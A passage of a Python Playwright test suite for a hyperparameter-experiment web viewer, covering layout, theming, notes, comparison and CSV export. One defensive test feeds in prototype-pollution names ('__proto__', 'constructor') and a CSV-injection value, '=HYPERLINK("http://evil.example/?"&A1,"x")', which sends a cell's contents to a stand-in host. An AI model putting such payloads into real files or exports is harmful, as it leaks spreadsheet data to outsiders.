    errors: list[str] = []
    # A trial's page too: its conditions table widened a phone's page to 600 px.
    trial = _call(server, "GET", "/api/v1/namespaces/default/experiments/finished/trials")["items"][0]["metadata"]["name"]
    pages = {**PAGES, "trial": (f"/#/t/default/{trial}", ["#metrics", "#conditions", "#devices"])}
    for label, width in WIDTHS.items():
        context = browser.new_context(viewport={"width": width, "height": 900})
        page = context.new_page()
        page.on("pageerror", lambda e: errors.append(str(e)))
        for name, (path, key) in pages.items():
            page.goto(server + path)
            ready(page)
            assert overflow(page) <= 0, f"{name} at {width} px scrolls sideways by {overflow(page)} px: " + page.evaluate(
                """[...document.querySelectorAll('body *')].filter(e => e.getBoundingClientRect().right > innerWidth + 1)
                   .slice(-6).map(e => e.tagName + '#' + e.id + '.' + e.className).join(', ')""")
            for selector in key:
                assert page.locator(selector).is_visible(), f"{selector} hidden on {name} at {width} px"
            if label == "phone":
                found[f"{name} at {width} px"] = serious_violations(page)
            shot(page, f"{label}-{name}", full_page=False)
        context.close()

    context = browser.new_context(viewport={"width": 1440, "height": 900}, color_scheme="dark")
    page = context.new_page()
    page.on("pageerror", lambda e: errors.append(str(e)))
    background = "getComputedStyle(document.documentElement).backgroundColor"
    for name, (path, _key) in PAGES.items():
        page.goto(server + path)
        ready(page)
        assert page.evaluate(background) == "rgb(18, 21, 28)"  # the system's dark, unasked
        found[f"{name}, dark"] = serious_violations(page)
        shot(page, f"dark-{name}", full_page=False)
        if name == "experiment":
            page.click("#tab-plots")
            found["plots, dark"] = serious_violations(page)
    # The toggle: auto → light → dark, kept across a reload; the charts follow.
    page.goto(server + "/#/e/default/finished")
    ready(page)
    assert page.inner_text("#theme") == "Theme: auto"
    page.click("#theme")
    ready(page)
    assert page.inner_text("#theme") == "Theme: light" and page.evaluate(background) == "rgb(246, 247, 249)"
    page.click("#theme")
    ready(page)
    assert page.inner_text("#theme") == "Theme: dark"
    page.reload()
    ready(page)
    assert page.inner_text("#theme") == "Theme: dark" and page.evaluate(background) == "rgb(18, 21, 28)"
    label_colour = page.evaluate("""echarts.getInstanceByDom(document.querySelector('#parallel')).getModel()
        .getComponent('parallelAxis', 0).get('axisLabel').color""")
    assert label_colour == "#a3abbb"  # the chart took the dark theme
    context.close()
    assert errors == []
    assert not any(found.values()), json.dumps({k: v for k, v in found.items() if v}, indent=1)


def test_notes_a_trials_yaml_comparing_and_cloning(server, page):
    """Notes on an experiment and on a trial, kept on the server; the trial's YAML; two
    experiments on one chart; clone-and-edit; and on `katib ui` (read-only) the notes shown,
    not editable, and no Stop on a trial."""
    page.goto(server + "/")
    ready(page)
    assert page.locator("#compare-selected").is_disabled()
    page.check("#experiments input[data-compare='default/finished']")
    page.check("#experiments input[data-compare='default/broken']")
    follow(page, "#compare-selected")
    assert page.locator("#compare-table tbody tr").count() == 2
    best = option(page, "#compare")["series"]
    assert sorted(s["name"] for s in best) == ["default/broken", "default/finished"]
    finished = next(s for s in best if s["name"] == "default/finished")["data"]
    assert len(finished) == 10 and all(b[1] <= a[1] for a, b in zip(finished, finished[1:], strict=False))  # never worse
    assert [s["name"] for s in option(page, "#compare-edf")["series"]] == ["default/finished"]  # broken has no values
    found = {"compare": serious_violations(page)}

    page.goto(server + "/#/e/default/finished")
    ready(page)
    # Clone: its YAML on the Submit page under a free name, valid as it stands, to edit.
    follow(page, "#clone")
    page.wait_for_function("document.querySelector('#ok').textContent.startsWith('Valid')", timeout=10000)
    cloned = yaml.safe_load(get_yaml(page))
    assert cloned["metadata"]["name"] == "finished-2" and "uid" not in cloned["metadata"]
    assert cloned["spec"]["parameters"] == _call(server, "GET", "/api/v1/namespaces/default/experiments/finished")["spec"]["parameters"]
    page.goto(server + "/#/e/default/finished")
    ready(page)
    page.fill("#note-text", "x near 0.3 is best; try a finer grid")
    page.click("#note-save")
    page.wait_for_function("document.querySelector('#note-meta').textContent.startsWith('saved')", timeout=5000)
    page.reload()
    ready(page)
    assert page.input_value("#note-text") == "x near 0.3 is best; try a finer grid"

    follow(page, "#best a")
    page.wait_for_function("document.querySelector('#trial-yaml').textContent.includes('kind: Trial')", timeout=5000)
    trial = page.inner_text("h1")
    assert f"name: {trial}" in page.inner_text("#trial-yaml")
    page.fill("#note-text", "rerun with three seeds")
    page.click("#note-save")
    page.wait_for_function("document.querySelector('#note-meta').textContent.startsWith('saved')", timeout=5000)
    found["trial"] = serious_violations(page)
    assert _call(server, "GET", f"/api/v1/namespaces/default/trials/{trial}/note")["text"] == "rerun with three seeds"

    port = _port()
    ui = subprocess.Popen([sys.executable, "-m", "katib", "ui", "--db", str(WORK["work"] / "k.db"), "--port", str(port)],
                          stdout=subprocess.DEVNULL, stderr=subprocess.STDOUT)
    try:
        base = f"http://127.0.0.1:{port}"
        for _ in range(150):
            try:
                urllib.request.urlopen(base + "/healthz", timeout=1)
                break
            except OSError:
                time.sleep(0.1)
        page.goto(base + f"/#/t/default/{trial}")
        ready(page)
        assert page.input_value("#note-text") == "rerun with three seeds"
        assert page.locator("#note-text").get_attribute("readonly") is not None and not page.locator("#note-save").is_visible()
        assert not page.locator("#stop-trial").is_visible()
    finally:
        ui.terminate()
        ui.wait(30)
    assert not any(found.values()), json.dumps({k: v for k, v in found.items() if v}, indent=1)


def test_an_experiment_page_opened_directly_asks_for_its_summary_once_while_its_scripts_load(server, page):
    """prefetch.js starts the summary request while ECharts and the viewer's scripts load;
    the page then uses that answer instead of asking again."""
    page.goto(server + "/#/e/default/finished")
    ready(page)
    entries = page.evaluate("""() => performance.getEntriesByType('resource')
        .map(e => ({name: new URL(e.name).pathname, start: e.startTime, end: e.responseEnd}))""")
    summaries = [e for e in entries if e["name"] == "/api/v1/namespaces/default/experiments/finished/summary"]
    assert len(summaries) == 1, entries
    assert page.evaluate("window.__katibPrefetched") == 1  # the page took prefetch.js's answer


def test_a_trial_of_many_reports_shows_its_last_and_then_asks_only_for_what_is_new(server, page):
    """A trial that printed 500,000 values made every refresh of its page fetch them all
    (41 MB each 1.5 s): the page now asks for the last 5,000 once, says so, and then only
    for what was reported since."""
    from katib.store import ObservationRow, Store, TrialRecord

    store = Store(f"sqlite:///{WORK['work'] / 'k.db'}")
    try:  # written to the server's store directly: no controller runs it, its trial stays Created
        rec = store.create_experiment("default", "chatty", _doc("chatty", 1, 1, 1, 0.01), {}, str(WORK["work"]))
        [t] = store.add_trials([TrialRecord(id=0, experiment_id=rec.id, name="chatty-1", state="Created", assignments=[])])
        store.save_trial(t, [ObservationRow(1000.0 + i, "loss", str(i)) for i in range(6000)])
        page.goto(server + "/#/t/default/chatty-1")
        ready(page)
        n = lambda k: page.evaluate(f"({k}).toLocaleString()")  # noqa: E731
        assert page.inner_text("#series-note") == f"showing the last {n(5000)} of {n(6000)} reports"
        store.save_trial(t, [ObservationRow(9000.0 + i, "loss", str(6000 + i)) for i in range(3)])
        page.wait_for_function(f"document.querySelector('#series-note').textContent.includes({json.dumps(n(6003))})",
                               timeout=20000)
        assert "6002" in page.inner_text("#metrics")  # the latest report
        asked = page.evaluate("""() => performance.getEntriesByType('resource').map(e => new URL(e.name))
            .filter(u => u.pathname.endsWith('/trials/chatty-1/observations')).map(u => u.search)""")
        assert asked[0] == "?tail=5000" and len(asked) >= 2, asked
        assert all(a.startswith("?continue=") for a in asked[1:]), asked  # only what is new, after the first
    finally:
        _call(server, "DELETE", "/api/v1/namespaces/default/experiments/chatty")
        store.close()


def test_names_a_user_chose_are_only_names_and_a_csv_cell_is_never_a_formula(server, page):
    """Metrics named ``__proto__`` and ``toString``, a parameter named ``constructor``: the
    trial page wrote min, max and latest onto Object.prototype (every chart after it lost
    its axes), failed ("pts.push is not a function"), and the slice plots did not draw. A
    categorical value ``=HYPERLINK(…)`` was exported to CSV as a formula a spreadsheet runs."""
    doc = experiment(name="hostile", maxTrialCount=2, parallelTrialCount=2,
                     objective={"type": "minimize", "objectiveMetricName": "__proto__", "additionalMetricNames": ["toString"]},
                     algorithm={"algorithmName": "random", "algorithmSettings": [{"name": "random_state", "value": "1"}]},
                     parameters=[{"name": "constructor", "parameterType": "double", "feasibleSpace": {"min": "0", "max": "1"}},
                                 {"name": "c", "parameterType": "categorical",
                                  "feasibleSpace": {"list": ['=HYPERLINK("http://evil.example/?"&A1,"x")', "@SUM(1+1)"]}}],
                     command=["python3", "-c", "import sys; print('__proto__=' + sys.argv[1] + ' toString=0.25')",
                              "${trialParameters.constructor}", "${trialParameters.c}"])
    doc["spec"]["trialTemplate"]["trialParameters"] = [{"name": "constructor", "reference": "constructor"},
                                                       {"name": "c", "reference": "c"}]
    _call(server, "POST", "/api/v1/namespaces/default/experiments", doc)
    _wait(server, "hostile", lambda s: s.get("completionTime"))
    page.goto(server + "/#/e/default/hostile")
    ready(page)
    assert page.inner_text("#count") == "2 of 2"
    page.click("#tabs [data-tab=importance]")
    page.wait_for_function("document.querySelectorAll('#slices .chart').length === 2")
    page.click("#tabs [data-tab=trials]")
    with page.expect_download() as download:
        page.click("#csv")
    text = Path(download.value.path()).read_text()
    cells = [c for line in text.splitlines()[1:] for c in line.split(",")]
    assert any(c.startswith("\"'=HYPERLINK(") for c in cells) or any(c.startswith("'@SUM") for c in cells), text
    assert not any(c.startswith(("=", "@", "\"=")) for c in cells), text
    follow(page, "#trials tbody tr:first-child a")
    page.wait_for_function("document.querySelector('#metrics').textContent.includes('toString')")
    assert page.evaluate("({}).latest === undefined && !('min' in {}) && !('max' in {})")
    assert page.locator("#series canvas").count() >= 1


def test_a_failed_or_infeasible_trials_value_is_never_shown_as_the_best(server, page):
    """Three trials: one succeeds with loss 0.5; one reports 0.01 and fails; one reports 0.02
    and breaks the constraint cost <= 2. The status's best is the first, and so is every
    "best" the viewer draws: the compare table and chart, the history's best-so-far line and
    the Pareto front (the compare page showed 0.01; the history and the front, 0.02)."""
    code = ("import sys; v = sys.argv[1]; print({'a': 'loss=0.5 cost=1', 'b': 'loss=0.01 cost=0.01', "
            "'c': 'loss=0.02 cost=5'}[v]); sys.exit(1 if v == 'b' else 0)")
    doc = experiment(name="outliers", maxTrialCount=3, parallelTrialCount=1, maxFailedTrialCount=3,
                     objective={"type": "minimize", "objectiveMetricName": "loss", "additionalMetricNames": ["cost"],
                                "constraints": [{"metricName": "cost", "max": "2"}]},
                     algorithm={"algorithmName": "grid"},
                     parameters=[{"name": "x", "parameterType": "categorical", "feasibleSpace": {"list": ["a", "b", "c"]}}],
                     command=["python3", "-c", code, "${trialParameters.x}"])
    _call(server, "POST", "/api/v1/namespaces/default/experiments", doc)
    status = _wait(server, "outliers", lambda s: s.get("completionTime"))
    best = status["currentOptimalTrial"]
    assert [m["min"] for m in best["observation"]["metrics"] if m["name"] == "loss"] == ["0.5"]

    page.goto(server + "/#/compare/default/outliers")
    ready(page)
    assert page.inner_text("#compare-table tbody tr td:last-child") == "0.5"
    assert {p[1] for s in option(page, "#compare")["series"] for p in s["data"]} == {0.5}
    page.goto(server + "/#/e/default/outliers")
    ready(page)
    line = next(s for s in option(page, "#history")["series"] if s["name"] == "best so far")
    assert {p[1] for p in line["data"]} == {0.5}
    page.click("#tab-pareto")
    front = option(page, "#pareto")["series"][1]["data"]
    assert [(p[0], p[1], p[2]) for p in front] == [(0.5, 1, best["bestTrialName"])]


def test_a_stop_from_elsewhere_and_an_outside_loops_tells_show_without_a_reload(server, page):
    """The experiment page refreshed only on its trials' events: a stop from the API, the
    CLI or another tab left it Running with a Stop button, and an outside loop's ask and
    tell (no events at all) left it as it was opened."""
    _call(server, "POST", "/api/v1/namespaces/default/experiments", _doc("quiet", 2, 1, 1, 60))
    _wait(server, "quiet", lambda s: s.get("trialsRunning", 0) >= 1)
    page.goto(server + "/#/e/default/quiet")
    ready(page)
    assert "Running" in page.inner_text("#subtitle")
    _call(server, "POST", "/api/v1/namespaces/default/experiments/quiet/stop")
    page.wait_for_function("document.querySelector('#subtitle').textContent.includes('Stopped')", timeout=15000)
    assert page.locator("#resume").is_visible() and not page.locator("#stop").is_visible()

    outside = _doc("outside", 4, 2, 1, 0.01)
    outside["spec"]["executor"] = "external"
    del outside["spec"]["trialTemplate"]
    _call(server, "POST", "/api/v1/namespaces/default/experiments", outside)
    [asked] = _call(server, "POST", "/api/v1/namespaces/default/experiments/outside/ask?count=1")["trials"]
    page.goto(server + "/#/e/default/outside")
    ready(page)
    assert "1 running" in page.inner_text("#subtitle")
    _call(server, "POST", "/api/v1/namespaces/default/experiments/outside/tell",
          {"trial": asked["name"], "metrics": {"loss": 0.25}})
    page.wait_for_function("document.querySelector('#subtitle').textContent.includes('1 succeeded')", timeout=15000)
    _call(server, "POST", "/api/v1/namespaces/default/experiments/outside/ask?count=1")
    page.wait_for_function("document.querySelector('#subtitle').textContent.includes('1 running')", timeout=15000)


def test_the_trial_counts_add_up(server, page):
    """The subtitle counted running, succeeded, failed and early stopped trials only: an
    experiment of 3 whose goal killed one and one of which reported nothing read
    "3 trials: 0 running, 1 succeeded, 0 failed, 0 early stopped"."""
    doc = _doc("ends", 3, 3, 1, 0.01)
    doc["spec"]["executor"] = "external"
    doc["spec"]["objective"]["goal"] = 0.001
    del doc["spec"]["trialTemplate"]
    _call(server, "POST", "/api/v1/namespaces/default/experiments", doc)
    first, second, _ = _call(server, "POST", "/api/v1/namespaces/default/experiments/ends/ask?count=3")["trials"]
    base = "/api/v1/namespaces/default/experiments/ends/tell"
    _call(server, "POST", base, {"trial": first["name"], "metrics": {}})  # nothing reported: MetricsUnavailable
    _call(server, "POST", base, {"trial": second["name"], "metrics": {"loss": 0.0001}})  # the goal: the third is killed
    page.goto(server + "/#/e/default/ends")
    ready(page)
    subtitle = page.inner_text("#subtitle")
    assert "3 trials: 0 running, 1 succeeded, 0 failed, 0 early stopped, 1 killed, 1 without a result" in subtitle, subtitle
